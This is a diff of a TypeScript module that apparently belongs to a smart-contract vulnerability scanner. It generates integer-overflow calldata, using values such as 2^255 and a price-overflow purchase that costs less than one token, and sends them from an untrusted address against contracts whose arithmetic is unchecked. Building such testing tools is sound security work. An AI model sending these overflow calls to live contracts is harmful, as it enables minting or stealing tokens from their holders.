@@ -5,14 +5,20 @@ import { words } from '../../trade/trader.ts'
 import { argumentTypes } from '../calls/argumentPlan.ts'
 
 /** A call whose numbers overflow where the code does not check its arithmetic. */
-export type OverflowCall = { from: Address; data: Hex; args: string[] }
-type Parties = { stranger: Address; recipient: Address; holder: Address; supply: bigint }
+export type OverflowCall = { from: Address; data: Hex; args: string[]; value: bigint }
+type Parties = { stranger: Address; recipient: Address; holder: Address; supply: bigint; prices: readonly bigint[] }
 
 const TRANSFER = '0xa9059cbb'
 /** Numbers whose product with an even factor is nothing, alone and with the 18 decimals of a token. */
 const EVEN = 2n ** 255n
 const WITH_DECIMALS = 2n ** 237n
+/** Two numbers whose product is nothing. */
+const PAIRS = [
+  [2n, EVEN],
+  [EVEN, 2n],
+]
 const ADDRESS_LIST = 'address[]'
+const WORDS = 2n ** 256n
 const MAX_ARGUMENTS = 6
 
 /**
@@ -21,7 +27,7 @@ const MAX_ARGUMENTS = 6
  */
 export function overflowPlan(
   { selector, signature, arguments: recovered }: Pick<ContractFunction, 'selector' | 'signature' | 'arguments'>,
-  { stranger, recipient, holder, supply }: Parties,
+  { stranger, recipient, holder, supply, prices }: Parties,
 ): OverflowCall[] {
   if (selector === TRANSFER)
     return [
@@ -34,25 +40,20 @@ export function overflowPlan(
   const named = signature === null && !text.includes('address') ? text.replace('uint256[]', ADDRESS_LIST) : text
   const types = argumentTypes(named)
   if (types.length === 0 || types.length > MAX_ARGUMENTS || !types.some(isNumber)) return []
-  const several = types.filter(isNumber).length > 1
+  const pairs = types.filter(isNumber).length > 1 ? PAIRS : []
+  const free = [[EVEN], [WITH_DECIMALS], ...pairs, [1n]]
   const sweeps = [
-    [EVEN],
-    [WITH_DECIMALS],
-    ...(several
-      ? [
-          [2n, EVEN],
-          [EVEN, 2n],
-        ]
-      : []),
-    [1n],
+    ...free.map((numbers) => ({ numbers, value: 0n })),
+    // The least number whose price overflows costs less than one token.
+    ...prices.map((price) => ({ numbers: [WORDS / price + 1n], value: (WORDS / price + 1n) * price - WORDS })),
   ]
-  return sweeps.flatMap((numbers) => {
+  return sweeps.flatMap(({ numbers, value }) => {
     const next = { number: 0 }
     const take = () => numbers[Math.min(next.number++, numbers.length - 1)] ?? 0n
     try {
       const values = types.map((type) => argumentFor(type, { receivers: [stranger, recipient], take }))
       const encoded = encodeAbiParameters(parseAbiParameters(types.join(',')), values as never)
-      return [{ from: stranger, data: `${selector}${encoded.slice(2)}` as Hex, args: values.map(textOf) }]
+      return [{ from: stranger, data: `${selector}${encoded.slice(2)}` as Hex, args: values.map(textOf), value }]
     } catch {
       // A type that the recovery invented, or a number that does not fit its type.
       return []
@@ -60,7 +61,7 @@ export function overflowPlan(
   })
 
   function callOf(from: Address, to: Address, amount: bigint): OverflowCall {
-    return { from, data: words(TRANSFER, to, amount), args: [to, String(amount)] }
+    return { from, data: words(TRANSFER, to, amount), args: [to, String(amount)], value: 0n }
   }
 }
 
